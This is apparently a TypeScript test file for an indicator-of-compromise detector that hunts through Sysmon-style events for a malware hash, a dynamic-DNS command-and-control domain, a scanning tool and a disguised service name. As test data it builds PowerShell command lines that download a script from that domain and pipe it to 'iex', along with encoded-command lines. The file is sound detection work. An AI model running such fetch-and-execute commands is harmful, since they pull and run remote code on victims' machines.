import { test } from 'node:test';
import assert from 'node:assert/strict';
import { IocDetector } from '../../src/ioc/index.js';
import { ScanMemory } from '../../src/sigma/remembered-scanner.js';
import type { Indicator } from '../../src/intel/index.js';
import type { EventFields, HuntEvent } from '../../src/events/event.js';
import type { Finding } from '../../src/findings/finding.js';

const ind = (type: Indicator['type'], value: string): Indicator => ({ type, value, source: 'mstic', tags: [] });
const INDICATORS = [
  ind('sha256', '9ae7c4a4e1cfe9b505c3a47e66551eb1357affee65bfefb0109d02f4e97c06dd'), ind('domain', 'asyspy256.ddns.net'),
  ind('filename', 'nbtscan.exe'), ind('service_name', 'IP He1per'),
];

let record = 0;
function event(fields: EventFields): HuntEvent {
  record++;
  return { fields, source: { path: 'sysmon.jsonl', record, format: 'jsonl' }, time: Date.parse('2019-03-04T10:22:31Z') + record, raw: null };
}

const sysmon1 = (image: string, hashes: string, cmd: string): EventFields => ({
  EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'WEB01.corp.example', Image: image,
  CommandLine: cmd, Hashes: hashes, ParentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
});
const BAD_HASHES = 'SHA1=C5423FEF0E8E211BB8BAB9C11E730048BBED7B29,MD5=0E5BC786206A3762CE47A0A2DBD01D7B,SHA256=9AE7C4A4E1CFE9B505C3A47E66551EB1357AFFEE65BFEFB0109D02F4E97C06DD,IMPHASH=1697BBEAB0AC62DD7B8016CE25425F45';
const GOOD_HASHES = 'SHA1=A1B2C3D4E5F60718293A4B5C6D7E8F9012345678,MD5=00112233445566778899AABBCCDDEEFF,SHA256=1111111111111111111111111111111111111111111111111111111111111111';

/** What each event gives: indicator, field and the value it was seen in. */
const summary = (fs: Finding[]): string[] => fs.map((f) => `${f.rule.id} ${Object.entries(f.matched).map(([k, v]) => `${k}=${v}`).join(' ')}`);

test('a repeated value gives the same findings every time, in every field that holds it', () => {
  const d = new IocDetector(INDICATORS);
  const cases: [EventFields, string[]][] = [
    [sysmon1('C:\\Tools\\nbtscan.exe', BAD_HASHES, 'nbtscan.exe 10.0.0.0/24'), [
      `ioc:filename:nbtscan.exe Image=C:\\Tools\\nbtscan.exe indicator=nbtscan.exe`,
      `ioc:sha256:9ae7c4a4e1cfe9b505c3a47e66551eb1357affee65bfefb0109d02f4e97c06dd Hashes=${BAD_HASHES} indicator=9ae7c4a4e1cfe9b505c3a47e66551eb1357affee65bfefb0109d02f4e97c06dd`,
    ]],
    [sysmon1('C:\\Windows\\System32\\PING.EXE', GOOD_HASHES, 'ping -n 1 asyspy256.ddns.net'), [
      'ioc:domain:asyspy256.ddns.net CommandLine=ping -n 1 asyspy256.ddns.net indicator=asyspy256.ddns.net',
    ]],
    [{ EventID: 7045, Channel: 'System', Provider_Name: 'Service Control Manager', ServiceName: 'IP He1per', ImagePath: 'C:\\Windows\\Temp\\nbtscan.exe' }, [
      'ioc:service_name:IP He1per ServiceName=IP He1per indicator=IP He1per',
      'ioc:filename:nbtscan.exe ImagePath=C:\\Windows\\Temp\\nbtscan.exe indicator=nbtscan.exe',
    ]],
  ];
  // The same events again and again, interleaved: the second and later rounds come from memory.
  for (let round = 0; round < 4; round++) {
    for (const [fields, expected] of cases) {
      const out: Finding[] = [];
      d.examine(event(fields), (f) => out.push(f));
      assert.deepEqual(summary(out), expected, `round ${round}`);
      assert.ok(out.every((f) => f.source.record === record), 'each finding names its own event');
    }
  }
  // The hash remembered from the Hashes field is found again when it sits in another field.
  const out: Finding[] = [];
  d.examine(event({ Details: BAD_HASHES }), (f) => out.push(f));
  assert.deepEqual(summary(out).map((s) => s.split(' ')[0]), ['ioc:sha256:9ae7c4a4e1cfe9b505c3a47e66551eb1357affee65bfefb0109d02f4e97c06dd']);
});

test('the remembered values stay within the memory budget, and findings stay the same after it is spent', () => {
  const memory = new ScanMemory();
  const d = new IocDetector(INDICATORS, { memory });
  const hit = 'cmd /c ping -n 1 asyspy256.ddns.net > nul';
  const seen = (fields: EventFields): number => {
    let n = 0;
    d.examine(event(fields), () => n++);
    return n;
  };
  assert.equal(seen({ CommandLine: hit }), 1);
  // Distinct long values that could hold a domain (a .net label): each is scanned and remembered.
  let fed = 0;
  for (let i = 0; fed < 6_000_000; i++) {
    const value = `powershell -enc ${String(i).padStart(8, '0')} ${'A'.repeat(3900)} https://cdn${i}.example.net/x`;
    fed += value.length;
    assert.equal(seen({ CommandLine: value }), 0);
    assert.ok(memory.chars <= 4_000_000, `memory holds ${memory.chars} characters after ${fed}`);
  }
  assert.ok(memory.chars > 0 && memory.chars < fed - 1_000_000, 'older values were forgotten');
  assert.equal(seen({ CommandLine: hit }), 1, 'a forgotten value is scanned again with the same result');
  assert.equal(seen({ CommandLine: hit }), 1);
});

test('a field whose values seldom repeat is scanned directly, with the same findings', () => {
  const d = new IocDetector(INDICATORS);
  const findings = (fields: EventFields): string[] => {
    const out: Finding[] = [];
    d.examine(event(fields), (f) => out.push(f));
    return summary(out);
  };
  // 5,000 distinct command lines (the field stops being remembered), every seventh reaching the C2 name.
  for (let i = 0; i < 5000; i++) {
    const cmd = `powershell -nop -c "iwr http://${i % 7 === 0 ? 'asyspy256.ddns.net' : `cdn${i}.example.net`}/p${i}.ps1 | iex"`;
    const got = findings({ CommandLine: cmd, Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' });
    assert.deepEqual(got, i % 7 === 0 ? [`ioc:domain:asyspy256.ddns.net CommandLine=${cmd} indicator=asyspy256.ddns.net`] : [], cmd);
  }
  // Then the same few values again and again: found every time.
  for (let i = 0; i < 300; i++) {
    assert.deepEqual(findings({ CommandLine: 'ping -n 1 asyspy256.ddns.net' }), ['ioc:domain:asyspy256.ddns.net CommandLine=ping -n 1 asyspy256.ddns.net indicator=asyspy256.ddns.net']);
  }
});
